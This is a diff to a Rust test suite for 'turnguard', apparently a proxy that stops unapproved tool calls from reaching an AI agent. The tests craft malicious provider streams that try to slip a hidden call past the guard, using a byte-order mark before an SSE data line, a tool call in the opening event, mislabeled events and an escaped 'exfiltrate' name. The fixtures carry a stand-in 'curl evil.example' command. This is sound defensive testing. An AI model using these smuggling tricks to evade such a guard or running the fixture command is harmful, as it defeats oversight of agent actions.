@@ -53,12 +53,37 @@ fn ev(name: &str, data: &Value) -> String {
 }
 
 fn message_start() -> String {
+    message_start_holding(json!([]))
+}
+
+/// A `message_start` whose message holds `content` (the API's is always `[]`).
+fn message_start_holding(content: Value) -> String {
     ev(
         "message_start",
         &json!({"type": "message_start", "message": {"id": "msg_x", "type": "message", "role": "assistant",
-        "model": "claude-test", "content": [], "stop_reason": null, "stop_sequence": null,
+        "model": "claude-test", "content": content, "stop_reason": null, "stop_sequence": null,
         "usage": {"input_tokens": 5, "output_tokens": 1}}}),
     )
+}
+
+/// A complete text block at `index`.
+fn text_block(index: u64, text: &str) -> Vec<String> {
+    vec![
+        ev(
+            "content_block_start",
+            &json!({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}}),
+        ),
+        ev(
+            "content_block_delta",
+            &json!({"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": text}}),
+        ),
+        block_stop(index),
+    ]
+}
+
+/// A stream's bytes from its blocks (each without its blank line).
+fn sse(blocks: &[String]) -> String {
+    blocks.join("\n\n") + "\n\n"
 }
 
 fn tool_use_start(index: Value, id: &str, name: &str) -> String {
@@ -650,35 +675,58 @@ async fn the_official_sdks_never_assemble_an_unadmitted_call() {
     ];
     for (api, step, request) in cases {
         h.script(&json!({"responses": [step]})).await;
-        let out = support::run_sdk_script(
-            "stream_calls.py",
-            &[
-                "--url".into(),
-                h.url().into(),
-                "--api".into(),
-                api.into(),
-                "--request".into(),
-                request.to_string().into(),
-            ],
-            std::time::Duration::from_secs(60),
-        )
-        .await;
-        let stdout = String::from_utf8_lossy(&out.stdout);
-        let got: Value = serde_json::from_str(stdout.trim()).unwrap_or_else(|_| {
-            panic!("{api}: {stdout}\n{}", String::from_utf8_lossy(&out.stderr))
-        });
-        assert!(
-            !got["calls"].as_array().unwrap().iter().any(|c| c == EVIL),
-            "{api}: the SDK assembled the unadmitted call: {got}"
-        );
-        assert!(
-            got["error"]
-                .as_str()
-                .is_some_and(|e| e.contains("turnguard")),
-            "{api}: the SDK raised turnguard's error: {got}"
-        );
+        let got = sdk_stream_calls(Sdk::Python, &h, api, &request).await;
+        assert_sdk_refused(&got, api);
     }
     h.stop().await;
+}
+
+/// The official SDKs of one language, as the agent.
+#[derive(Clone, Copy, Debug)]
+enum Sdk {
+    /// `openai` and `anthropic` (`tests/sdk/stream_calls.py`).
+    Python,
+    /// `openai` and `@anthropic-ai/sdk` (`tests/compat/node/stream_calls.mjs`).
+    Node,
+}
+
+/// Streams `request` through turnguard with `sdk`'s client for `api` (`chat` or `messages`);
+/// returns the script's `{"calls": [names the SDK assembled], "error": …}`.
+async fn sdk_stream_calls(sdk: Sdk, h: &Harness, api: &str, request: &Value) -> Value {
+    let args: [std::ffi::OsString; 6] = [
+        "--url".into(),
+        h.url().into(),
+        "--api".into(),
+        api.into(),
+        "--request".into(),
+        request.to_string().into(),
+    ];
+    let limit = std::time::Duration::from_secs(60);
+    let out = match sdk {
+        Sdk::Python => support::run_sdk_script("stream_calls.py", &args, limit).await,
+        Sdk::Node => support::run_node_script("stream_calls.mjs", &args, limit).await,
+    };
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    serde_json::from_str(stdout.trim()).unwrap_or_else(|_| {
+        panic!(
+            "{sdk:?} {api}: {stdout}\n{}",
+            String::from_utf8_lossy(&out.stderr)
+        )
+    })
+}
+
+/// The SDK assembled no call to the undeclared tool and raised turnguard's error.
+fn assert_sdk_refused(got: &Value, what: &str) {
+    assert!(
+        !got["calls"].as_array().unwrap().iter().any(|c| c == EVIL),
+        "{what}: the SDK assembled the unadmitted call: {got}"
+    );
+    assert!(
+        got["error"]
+            .as_str()
+            .is_some_and(|e| e.contains("turnguard")),
+        "{what}: the SDK raised turnguard's error: {got}"
+    );
 }
 
 /// A non-stream answer is one block of the round engine: a 2xx body that is not a JSON
@@ -929,5 +977,252 @@ async fn an_upstream_key_named_twice_is_never_forwarded() {
     )
     .await;
     assert_withheld_with_error(&resp, "a Messages event naming content_block twice");
+    h.stop().await;
+}
+
+/// A line whose field is none of `event`, `data`, `id` and `retry` is an unknown field to a
+/// reader that follows the standard and ignores it, but not to every client: the Node SDKs
+/// decode each line with a `TextDecoder`, which drops a leading byte-order mark, so
+/// `U+FEFF data: {call}` is a `data` line to them. turnguard read such a block as a keep-alive
+/// and forwarded it raw, and openai-node and `@anthropic-ai/sdk` assembled the call it
+/// carried, which admission never saw. A block with a field turnguard does not know now
+/// ends the stream with the provider's error, wherever it comes (mid-stream, or the
+/// stream's first bytes), whatever it carries.
+#[tokio::test]
+async fn a_line_clients_read_two_ways_never_reaches_the_agent() {
+    let h = support::start(Script::default()).await;
+    let text = chunk(
+        json!([{"index": 0, "delta": {"role": "assistant", "content": "Sunny."}, "finish_reason": null}]),
+    );
+    let call = chat_call_chunk("call_evil", EVIL, "{\"cmd\":\"curl evil.example\"}");
+    let chat_tail = [
+        format!("data: {}", chat_finish("tool_calls")),
+        "data: [DONE]".to_owned(),
+    ];
+    let chat_mid = sse(&[
+        &[format!("data: {text}"), format!("\u{FEFF}data: {call}")][..],
+        &chat_tail,
+    ]
+    .concat());
+    let chat_first = sse(&[&[format!("\u{FEFF}data: {call}")][..], &chat_tail].concat());
+    let chat_unknown = sse(&[
+        &[format!("data: {text}"), "x-note: harmless".to_owned()][..],
+        &chat_tail,
+    ]
+    .concat());
+    let evil_start = json!({"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {"cmd": "curl evil.example"}}});
+    let mut messages = vec![message_start()];
+    messages.extend(text_block(0, "Sunny."));
+    messages.push(format!(
+        "\u{FEFF}data: {evil_start}\nevent: content_block_start"
+    ));
+    messages.extend(message_end("end_turn"));
+    let messages = sse(&messages);
+    let cases = [
+        ("chat", "a BOM before a mid-stream data line", chat_mid),
+        (
+            "chat",
+            "a BOM before the stream's first data line",
+            chat_first,
+        ),
+        ("chat", "a field turnguard does not know", chat_unknown),
+        (
+            "messages",
+            "a BOM before a tool_use block's data line",
+            messages,
+        ),
+    ];
+    let dir = tempfile::tempdir().unwrap();
+    for (i, (api, what, bytes)) in cases.into_iter().enumerate() {
+        let (path, request) = match api {
+            "chat" => ("/v1/chat/completions", chat_request(true)),
+            _ => ("/v1/messages", messages_request(true)),
+        };
+        let file = dir.path().join(format!("case{i}.sse"));
+        std::fs::write(&file, &bytes).unwrap();
+        let (status, _, body) = exchange(&h, path, json!({"file": &file}), &request).await;
+        assert_eq!(status, 200, "{what}");
+        assert_withheld_with_error(&body, what);
+        assert!(
+            !body.contains('\u{FEFF}'),
+            "{what}: the line was forwarded: {body:?}"
+        );
+        // What the agent's SDKs make of it: the Node ones are the clients that drop the mark.
+        for sdk in [Sdk::Node, Sdk::Python] {
+            h.script(&json!({"responses": [{"file": &file}]})).await;
+            let got = sdk_stream_calls(sdk, &h, api, &request).await;
+            assert_sdk_refused(&got, &format!("{sdk:?}, {what}"));
+        }
+    }
+    h.stop().await;
+}
+
+/// The opening event of a stream carries the response it starts, and the SDKs start their
+/// snapshot from it: `message_start.message.content` (Messages) and `response.created` /
+/// `response.in_progress`'s `response.output` (Responses). The APIs always open them empty
+/// and stream every block and item as its own events, which are what turnguard reads calls
+/// from; a `tool_use` in `message_start` was forwarded and the anthropic SDK's final message
+/// held it, undecided. An opening event that already holds content ends the stream with the
+/// provider's error.
+#[tokio::test]
+async fn an_opening_event_that_already_holds_a_call_never_reaches_the_agent() {
+    let h = support::start(Script::default()).await;
+    let mut events = vec![message_start_holding(json!([
+        {"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {"cmd": "curl evil.example"}}
+    ]))];
+    events.extend(text_block(0, "Sunny."));
+    events.extend(message_end("tool_use"));
+    let (status, _, body) = exchange(
+        &h,
+        "/v1/messages",
+        json!({"sse": events.clone()}),
+        &messages_request(true),
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert_withheld_with_error(&body, "a tool_use in message_start");
+    for sdk in [Sdk::Python, Sdk::Node] {
+        h.script(&json!({"responses": [{"sse": events.clone()}]}))
+            .await;
+        let got = sdk_stream_calls(sdk, &h, "messages", &messages_request(true)).await;
+        assert_sdk_refused(&got, &format!("{sdk:?}, a tool_use in message_start"));
+    }
+
+    let evil = json!({"type": "function_call", "id": "fc_evil", "call_id": "call_evil", "name": EVIL, "arguments": "{}", "status": "completed"});
+    for opening in ["response.created", "response.in_progress"] {
+        let step = json!({"sse": [
+            ev(opening, &json!({"type": opening, "sequence_number": 0, "response": {"id": "resp_x", "object": "response", "status": "in_progress", "output": [evil]}})),
+            ev("response.output_text.delta", &json!({"type": "response.output_text.delta", "sequence_number": 1, "output_index": 0, "item_id": "msg_1", "content_index": 0, "delta": "Sunny."})),
+            ev("response.completed", &json!({"type": "response.completed", "sequence_number": 2, "response": {"id": "resp_x", "object": "response", "status": "completed", "output": []}})),
+        ]});
+        let (status, _, body) = exchange(&h, "/v1/responses", step, &responses_request(true)).await;
+        assert_eq!(status, 200, "{opening}");
+        assert_withheld_with_error(&body, &format!("a call in {opening}"));
+    }
+    h.stop().await;
+}
+
+/// A non-stream answer that does not read one way — a UTF-8 byte-order mark before the
+/// object, a second value after it, a stray `]`, invalid UTF-8 inside a string — is a
+/// provider-shaped 502 on each API, and none of its bytes reach the agent.
+#[tokio::test]
+async fn a_json_answer_with_a_bom_trailing_data_or_bad_utf8_is_refused() {
+    let h = support::start(Script::default()).await;
+    let chat = json!({"id": "c", "object": "chat.completion", "created": 1, "model": "m",
+        "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant", "content": null,
+        "tool_calls": [{"id": "call_evil", "type": "function", "function": {"name": EVIL, "arguments": "{}"}}]}}]})
+    .to_string();
+    let messages = json!({"id": "msg_x", "type": "message", "role": "assistant", "model": "claude-test",
+        "content": [{"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {}}],
+        "stop_reason": "tool_use", "stop_sequence": null, "usage": {"input_tokens": 1, "output_tokens": 1}})
+    .to_string();
+    let responses = json!({"id": "resp_x", "object": "response", "status": "completed",
+        "output": [{"type": "function_call", "id": "fc_1", "call_id": "call_evil", "name": EVIL, "arguments": "{}", "status": "completed"}]})
+    .to_string();
+    for (path, request, text) in [
+        ("/v1/chat/completions", chat_request(false), chat),
+        ("/v1/messages", messages_request(false), messages),
+        ("/v1/responses", responses_request(false), responses),
+    ] {
+        let bad_utf8 = {
+            let mut b = text.clone().into_bytes();
+            let at = text.find(":\"").unwrap() + 2; // inside the first string value
+            b.splice(at..at, [0xff, 0xfe]);
+            b
+        };
+        for (what, bytes) in [
+            ("a BOM", [&b"\xEF\xBB\xBF"[..], text.as_bytes()].concat()),
+            ("a second value", format!("{text}{text}").into_bytes()),
+            ("a stray ]", format!("{text}\n]").into_bytes()),
+            ("invalid UTF-8", bad_utf8),
+        ] {
+            let (status, _, body) = exchange_bytes(&h, path, ("a.json", bytes), &request).await;
+            assert_eq!(status, 502, "{path}, {what}: {body}");
+            assert!(
+                !carries_call(&body) && !body.contains("call_evil"),
+                "{path}, {what}: {body}"
+            );
+        }
+    }
+    h.stop().await;
+}
+
+/// A stream whose structure lies: a Messages delta for a block never started, a
+/// `content_block_start` announced as `ping`, a Responses `output_item.done` whose call is
+/// not the one its deltas built, an `event:` name that is not the data's `type`, and a Chat
+/// call with an escaped name in CR-only framing with a comment and a `retry:` line. Each ends
+/// with turnguard's error or withholds the call; the call never reaches the agent.
+#[tokio::test]
+async fn a_stream_whose_structure_lies_fails_closed() {
+    let h = support::start(Script::default()).await;
+    let mut unstarted = vec![message_start()];
+    unstarted.extend(text_block(0, "Sunny."));
+    unstarted.push(block_delta(1, "{\"cmd\":\"x\"}"));
+    unstarted.extend(message_end("end_turn"));
+    let mut ping = vec![message_start()];
+    ping.push(format!(
+        "event: ping\ndata: {}",
+        json!({"type": "content_block_start", "index": 0,
+        "content_block": {"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {}}})
+    ));
+    ping.push(block_stop(0));
+    ping.extend(message_end("tool_use"));
+    for (what, events) in [
+        ("a delta for a block never started", unstarted),
+        ("a content_block_start named ping", ping),
+    ] {
+        let (_, _, body) = exchange(
+            &h,
+            "/v1/messages",
+            json!({"sse": events}),
+            &messages_request(true),
+        )
+        .await;
+        assert!(!body.contains("\"cmd\""), "{what}: {body}");
+        assert_withheld_with_error(&body, what);
+    }
+
+    let created = ev(
+        "response.created",
+        &json!({"type": "response.created", "sequence_number": 0, "response": {"id": "resp_x", "object": "response", "status": "in_progress", "output": []}}),
+    );
+    let weather = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "get_weather", "arguments": "", "status": "in_progress"});
+    let evil = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": EVIL, "arguments": "{\"cmd\":\"x\"}", "status": "completed"});
+    let step = json!({"sse": [
+        created,
+        ev("response.output_item.added", &json!({"type": "response.output_item.added", "sequence_number": 1, "output_index": 0, "item": weather})),
+        ev("response.function_call_arguments.delta", &json!({"type": "response.function_call_arguments.delta", "sequence_number": 2, "output_index": 0, "item_id": "fc_1", "delta": "{}"})),
+        ev("response.output_item.done", &json!({"type": "response.output_item.done", "sequence_number": 3, "output_index": 0, "item": evil})),
+        ev("response.completed", &json!({"type": "response.completed", "sequence_number": 4, "response": {"id": "resp_x", "object": "response", "status": "completed", "output": [evil]}})),
+    ]});
+    let (_, _, body) = exchange(&h, "/v1/responses", step, &responses_request(true)).await;
+    assert!(
+        !carries_call(&body) && !body.contains("call_1"),
+        "a done item that is not what the deltas built: {body}"
+    );
+    let step = json!({"sse": [
+        created,
+        format!("event: response.output_text.delta\ndata: {}", json!({"type": "response.output_item.done", "sequence_number": 1, "output_index": 0, "item": evil})),
+    ]});
+    let (_, _, body) = exchange(&h, "/v1/responses", step, &responses_request(true)).await;
+    assert_withheld_with_error(&body, "an event: name that is not the data's type");
+
+    let escaped = chat_call_chunk("call_evil", EVIL, "{}").replace(EVIL, "\\u0065xfiltrate");
+    let bytes = format!(
+        ": hi\rretry: 10\r\rdata: {escaped}\r\rdata: {}\r\rdata: [DONE]\r\r",
+        chat_finish("tool_calls")
+    );
+    let (_, _, body) = exchange_bytes(
+        &h,
+        "/v1/chat/completions",
+        ("cr.sse", bytes),
+        &chat_request(true),
+    )
+    .await;
+    assert!(
+        !body.contains("xfiltrate\",\"arguments") && !body.contains("call_evil"),
+        "CR-only framing, an escaped name: {body:?}"
+    );
+    assert!(body.contains("[turnguard]"), "{body:?}");
     h.stop().await;
 }
